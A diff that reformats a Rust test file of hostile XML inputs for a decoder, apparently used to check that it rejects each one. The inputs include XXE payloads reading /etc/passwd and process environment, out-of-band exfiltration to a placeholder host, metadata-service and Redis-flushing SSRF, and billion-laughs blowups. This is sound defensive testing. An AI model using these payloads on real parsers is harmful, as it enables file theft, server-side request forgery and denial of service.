@@ -19,7 +19,11 @@ pub(crate) struct Attack {
 pub(crate) fn all(size: usize) -> Vec<Attack> {
     let mut all = Vec::new();
     for (name, declaration, content) in ENTITIES {
-        all.push(attack(name, format!("<?xml version=\"1.0\"?>\n{declaration}<r>{content}</r>"), Err(Doctype)));
+        all.push(attack(
+            name,
+            format!("<?xml version=\"1.0\"?>\n{declaration}<r>{content}</r>"),
+            Err(Doctype),
+        ));
     }
     for (name, document, verdict) in SHORT {
         all.push(attack(name, *document, *verdict));
@@ -43,25 +47,89 @@ fn attack(name: &'static str, document: impl Into<Vec<u8>>, verdict: Result<(), 
 /// Name, document type declaration, content of the root element.
 const ENTITIES: &[(&str, &str, &str)] = &[
     ("entity that is itself", "<!DOCTYPE r [<!ENTITY a \"&a;\">]>", "&a;"),
-    ("entities of each other", "<!DOCTYPE r [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]>", "&a;"),
+    (
+        "entities of each other",
+        "<!DOCTYPE r [<!ENTITY a \"&b;&b;\"><!ENTITY b \"&a;&a;\">]>",
+        "&a;",
+    ),
     ("file", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "&x;"),
-    ("file of the process", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]>", "&x;"),
+    (
+        "file of the process",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]>",
+        "&x;",
+    ),
     ("file without end", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///dev/zero\">]>", "&x;"),
-    ("file on another machine", "<!DOCTYPE r [<!ENTITY x SYSTEM \"\\\\192.0.2.1\\share\">]>", "&x;"),
-    ("folder in an archive", "<!DOCTYPE r [<!ENTITY x SYSTEM \"jar:http://192.0.2.1/a.jar!/b\">]>", "&x;"),
-    ("metadata service", "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>", "&x;"),
-    ("port of this machine", "<!DOCTYPE r [<!ENTITY x SYSTEM \"gopher://127.0.0.1:6379/_FLUSHALL\">]>", "&x;"),
-    ("filter of an interpreter", "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]>", "&x;"),
-    ("command of an interpreter", "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]>", "&x;"),
-    ("public entity", "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//A//B//EN\" \"http://192.0.2.1/x\">]>", "&x;"),
-    ("unparsed entity", "<!DOCTYPE r [<!NOTATION n SYSTEM \"/bin/sh\"><!ENTITY x SYSTEM \"a.gif\" NDATA n>]>", ""),
-    ("parameter entity", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\">%p;]>", ""),
-    ("parameter entity that sends a file", "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://192.0.2.1/?%f;'>\">%e;%s;]>", ""),
-    ("local declaration turned over", "<!DOCTYPE r [<!ENTITY % l SYSTEM \"file:///usr/share/xml/fontconfig/fonts.dtd\"><!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'>%l;]>", ""),
+    (
+        "file on another machine",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"\\\\192.0.2.1\\share\">]>",
+        "&x;",
+    ),
+    (
+        "folder in an archive",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"jar:http://192.0.2.1/a.jar!/b\">]>",
+        "&x;",
+    ),
+    (
+        "metadata service",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/\">]>",
+        "&x;",
+    ),
+    (
+        "port of this machine",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"gopher://127.0.0.1:6379/_FLUSHALL\">]>",
+        "&x;",
+    ),
+    (
+        "filter of an interpreter",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">]>",
+        "&x;",
+    ),
+    (
+        "command of an interpreter",
+        "<!DOCTYPE r [<!ENTITY x SYSTEM \"expect://id\">]>",
+        "&x;",
+    ),
+    (
+        "public entity",
+        "<!DOCTYPE r [<!ENTITY x PUBLIC \"-//A//B//EN\" \"http://192.0.2.1/x\">]>",
+        "&x;",
+    ),
+    (
+        "unparsed entity",
+        "<!DOCTYPE r [<!NOTATION n SYSTEM \"/bin/sh\"><!ENTITY x SYSTEM \"a.gif\" NDATA n>]>",
+        "",
+    ),
+    (
+        "parameter entity",
+        "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://192.0.2.1/evil.dtd\">%p;]>",
+        "",
+    ),
+    (
+        "parameter entity that sends a file",
+        "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'http://192.0.2.1/?%f;'>\">%e;%s;]>",
+        "",
+    ),
+    (
+        "local declaration turned over",
+        "<!DOCTYPE r [<!ENTITY % l SYSTEM \"file:///usr/share/xml/fontconfig/fonts.dtd\"><!ENTITY % expr 'a)><!ENTITY &#x25; f SYSTEM \"file:///etc/passwd\">'>%l;]>",
+        "",
+    ),
     ("external subset", "<!DOCTYPE r SYSTEM \"http://192.0.2.1/r.dtd\">", ""),
-    ("external subset, public", "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://192.0.2.1/r.dtd\">", ""),
-    ("external subset beside the document", "<!DOCTYPE r SYSTEM \"../../../../etc/passwd\">", ""),
-    ("entity in an attribute", "<!DOCTYPE r [<!ENTITY x \"<b/>\"><!ATTLIST r a CDATA \"&x;\">]>", ""),
+    (
+        "external subset, public",
+        "<!DOCTYPE r PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://192.0.2.1/r.dtd\">",
+        "",
+    ),
+    (
+        "external subset beside the document",
+        "<!DOCTYPE r SYSTEM \"../../../../etc/passwd\">",
+        "",
+    ),
+    (
+        "entity in an attribute",
+        "<!DOCTYPE r [<!ENTITY x \"<b/>\"><!ATTLIST r a CDATA \"&x;\">]>",
+        "",
+    ),
     ("declaration without a name", "<!DOCTYPE>", ""),
     ("declaration with nothing in it", "<!DOCTYPE r []>", ""),
 ];
@@ -73,11 +141,27 @@ const SHORT: &[(&str, &str, Result<(), DecodeFault>)] = &[
     ("declaration in an element", "<r><!DOCTYPE r []></r>", Err(Doctype)),
     ("declaration after the root", "<r/><!DOCTYPE r []>", Err(Doctype)),
     ("declaration in small letters", "<!doctype html><html></html>", Err(Doctype)),
-    ("declaration of an entity alone", "<!ENTITY x SYSTEM 'file:///etc/passwd'><r/>", Err(Syntax)),
+    (
+        "declaration of an entity alone",
+        "<!ENTITY x SYSTEM 'file:///etc/passwd'><r/>",
+        Err(Syntax),
+    ),
     ("conditional section", "<r><![INCLUDE[<x/>]]></r>", Err(Incomplete)),
-    ("inclusion", "<r xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='file:///etc/passwd' parse='text'/></r>", Ok(())),
-    ("place of a schema", "<r xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation='http://192.0.2.1/'/>", Ok(())),
-    ("style sheet", "<?xml-stylesheet type='text/xsl' href='http://192.0.2.1/evil.xsl'?><r/>", Ok(())),
+    (
+        "inclusion",
+        "<r xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='file:///etc/passwd' parse='text'/></r>",
+        Ok(()),
+    ),
+    (
+        "place of a schema",
+        "<r xmlns:x='http://www.w3.org/2001/XMLSchema-instance' x:noNamespaceSchemaLocation='http://192.0.2.1/'/>",
+        Ok(()),
+    ),
+    (
+        "style sheet",
+        "<?xml-stylesheet type='text/xsl' href='http://192.0.2.1/evil.xsl'?><r/>",
+        Ok(()),
+    ),
     ("base of references", "<r xml:base='file:///etc/'><a href='passwd'/></r>", Ok(())),
     ("two roots", "<r/><r/>", Err(Syntax)),
     ("text after the root", "<r/>bad", Err(Syntax)),
@@ -89,8 +173,16 @@ const SHORT: &[(&str, &str, Result<(), DecodeFault>)] = &[
     ("prefix that nobody declared", "<p:r/>", Err(Namespace)),
     ("prefix of the declarations", "<r xmlns:xmlns='urn:a'/>", Err(Namespace)),
     ("attribute twice", "<r a='1' a='2'/>", Err(Duplicate)),
-    ("attribute twice by two prefixes", "<r xmlns:p='urn:a' xmlns:q='urn:a' p:a='1' q:a='2'/>", Err(Duplicate)),
-    ("instruction with the name of the declaration", "<r><?xml version='1.0'?></r>", Err(Syntax)),
+    (
+        "attribute twice by two prefixes",
+        "<r xmlns:p='urn:a' xmlns:q='urn:a' p:a='1' q:a='2'/>",
+        Err(Duplicate),
+    ),
+    (
+        "instruction with the name of the declaration",
+        "<r><?xml version='1.0'?></r>",
+        Err(Syntax),
+    ),
     ("page", "<html><body>Bad Gateway<br></body></html>", Err(Syntax)),
     ("other notation", "{\"r\":1}", Err(Syntax)),
 ];
@@ -103,16 +195,40 @@ fn entities(size: usize) -> [Attack; 7] {
         }
         text
     };
-    let quadratic = format!("<!DOCTYPE r [<!ENTITY a \"{}\">]><r>{}</r>", "a".repeat(size / 2), "&a;".repeat(size / 6));
-    let defaults = format!("<!DOCTYPE r [<!ATTLIST b c CDATA \"{}\">]><r>{}</r>", "a".repeat(size / 2), "<b/>".repeat(size / 8));
+    let quadratic = format!(
+        "<!DOCTYPE r [<!ENTITY a \"{}\">]><r>{}</r>",
+        "a".repeat(size / 2),
+        "&a;".repeat(size / 6)
+    );
+    let defaults = format!(
+        "<!DOCTYPE r [<!ATTLIST b c CDATA \"{}\">]><r>{}</r>",
+        "a".repeat(size / 2),
+        "<b/>".repeat(size / 8)
+    );
     [
         attack("billion laughs", format!("{}]><r>&l9;</r>", laughs("", "&")), Err(Doctype)),
-        attack("billion laughs by parameters", format!("{}%l9;]><r/>", laughs("% ", "&#37;")), Err(Doctype)),
-        attack("billion laughs in an attribute", format!("{}]><r a='&l9;'/>", laughs("", "&")), Err(Doctype)),
+        attack(
+            "billion laughs by parameters",
+            format!("{}%l9;]><r/>", laughs("% ", "&#37;")),
+            Err(Doctype),
+        ),
+        attack(
+            "billion laughs in an attribute",
+            format!("{}]><r a='&l9;'/>", laughs("", "&")),
+            Err(Doctype),
+        ),
         attack("quadratic growth", quadratic, Err(Doctype)),
         attack("defaults of attributes", defaults, Err(Doctype)),
-        attack("declaration without an end", format!("<!DOCTYPE r {}", "[".repeat(size)), Err(Doctype)),
-        attack("declaration after a long way", format!("{}<!DOCTYPE r []><r/>", " ".repeat(size)), Err(Doctype)),
+        attack(
+            "declaration without an end",
+            format!("<!DOCTYPE r {}", "[".repeat(size)),
+            Err(Doctype),
+        ),
+        attack(
+            "declaration after a long way",
+            format!("{}<!DOCTYPE r []><r/>", " ".repeat(size)),
+            Err(Doctype),
+        ),
     ]
 }
 
@@ -152,11 +268,26 @@ fn many(size: usize) -> [Attack; 12] {
     let elements = 200_001;
     [
         attack("elements", format!("<r>{}</r>", "<a/>".repeat(elements)), Err(Nodes)),
-        attack("elements of many names", format!("<r>{}</r>", (0..size / 11).fold(String::new(), |text, number| text + &format!("<a{number:06}/>"))), Ok(())),
+        attack(
+            "elements of many names",
+            format!(
+                "<r>{}</r>",
+                (0..size / 11).fold(String::new(), |text, number| text + &format!("<a{number:06}/>"))
+            ),
+            Ok(()),
+        ),
         attack("attributes", attributes(size / 11, plain) + "/>", Ok(())),
-        attack("attributes, the last one twice", attributes(size / 11, plain) + " a000000=''/>", Err(Duplicate)),
+        attack(
+            "attributes, the last one twice",
+            attributes(size / 11, plain) + " a000000=''/>",
+            Err(Duplicate),
+        ),
         attack("declarations of namespaces", attributes(size / 22, declared) + "/>", Ok(())),
-        attack("declarations of one namespace, an attribute twice", attributes(size / 22, declared) + " xmlns:x='u0' x:a='' p000000:a=''/>", Err(Duplicate)),
+        attack(
+            "declarations of one namespace, an attribute twice",
+            attributes(size / 22, declared) + " xmlns:x='u0' x:a='' p000000:a=''/>",
+            Err(Duplicate),
+        ),
         attack("namespaces that collide", collisions + "</r>", Ok(())),
         attack("comments", format!("<r>{}</r>", "<!---->".repeat(size / 7)), Ok(())),
         attack("sections", format!("<r>{}</r>", "<![CDATA[]]>".repeat(size / 12)), Ok(())),
@@ -173,15 +304,35 @@ fn long(size: usize) -> [Attack; 18] {
         attack("name that ends otherwise", format!("<{name}></{name}x>"), Err(Syntax)),
         attack("name of an attribute", format!("<r {name}=''/>"), Ok(())),
         attack("name of a reference", format!("<r>&{name};</r>"), Err(Entity)),
-        attack("name of a namespace", format!("<r xmlns='{name}'><a/><p:a xmlns:p='{}'/></r>", "m".repeat(size / 2)), Ok(())),
+        attack(
+            "name of a namespace",
+            format!("<r xmlns='{name}'><a/><p:a xmlns:p='{}'/></r>", "m".repeat(size / 2)),
+            Ok(()),
+        ),
         attack("text", format!("<r>{}</r>", "t".repeat(size)), Ok(())),
         attack("white space", format!("{}<r/>", " ".repeat(size)), Ok(())),
         attack("white space in a tag", format!("<r{}/>", "\n".repeat(size)), Ok(())),
         attack("number with zeros before it", format!("<r>&#{}65;</r>", "0".repeat(size)), Ok(())),
-        attack("number beyond all characters", format!("<r>&#{};</r>", "9".repeat(size)), Err(Syntax)),
-        attack("comment without an end", format!("<r><!--{}", "->".repeat(size / 2)), Err(Incomplete)),
-        attack("section without an end", format!("<r><![CDATA[{}", "]>".repeat(size / 2)), Err(Incomplete)),
-        attack("instruction without an end", format!("<r><?p {}", "?".repeat(size)), Err(Incomplete)),
+        attack(
+            "number beyond all characters",
+            format!("<r>&#{};</r>", "9".repeat(size)),
+            Err(Syntax),
+        ),
+        attack(
+            "comment without an end",
+            format!("<r><!--{}", "->".repeat(size / 2)),
+            Err(Incomplete),
+        ),
+        attack(
+            "section without an end",
+            format!("<r><![CDATA[{}", "]>".repeat(size / 2)),
+            Err(Incomplete),
+        ),
+        attack(
+            "instruction without an end",
+            format!("<r><?p {}", "?".repeat(size)),
+            Err(Incomplete),
+        ),
         attack("attribute without an end", format!("<r a='{}", ">".repeat(size)), Err(Incomplete)),
         attack("brackets", "<".repeat(size), Err(Incomplete)),
         attack("ampersands", format!("<r>{}</r>", "&".repeat(size)), Err(Syntax)),
@@ -198,10 +349,26 @@ fn encoded() -> [Attack; 10] {
     };
     let named = |name: &str, content: &str| format!("<?xml version='1.0' encoding='{name}'?>{content}");
     [
-        attack("UTF-16, low byte first", [b"\xFF\xFE".to_vec(), words(false)].concat(), Err(Encoding)),
-        attack("UTF-16, high byte first", [b"\xFE\xFF".to_vec(), words(true)].concat(), Err(Encoding)),
+        attack(
+            "UTF-16, low byte first",
+            [b"\xFF\xFE".to_vec(), words(false)].concat(),
+            Err(Encoding),
+        ),
+        attack(
+            "UTF-16, high byte first",
+            [b"\xFE\xFF".to_vec(), words(true)].concat(),
+            Err(Encoding),
+        ),
         attack("UTF-16 without a mark", words(true), Err(Encoding)),
-        attack("UTF-32", [b"\0\0\xFE\xFF".to_vec(), declared.bytes().flat_map(|byte| [0, 0, 0, byte]).collect()].concat(), Err(Encoding)),
+        attack(
+            "UTF-32",
+            [
+                b"\0\0\xFE\xFF".to_vec(),
+                declared.bytes().flat_map(|byte| [0, 0, 0, byte]).collect(),
+            ]
+            .concat(),
+            Err(Encoding),
+        ),
         attack("UTF-7", named("UTF-7", "+ADw-+ACE-DOCTYPE r+AD4-<r/>"), Err(Encoding)),
         attack("said to be UTF-16", named("UTF-16", "<r/>"), Err(Encoding)),
         attack("code page of large machines", named("IBM037", "<r/>"), Err(Encoding)),
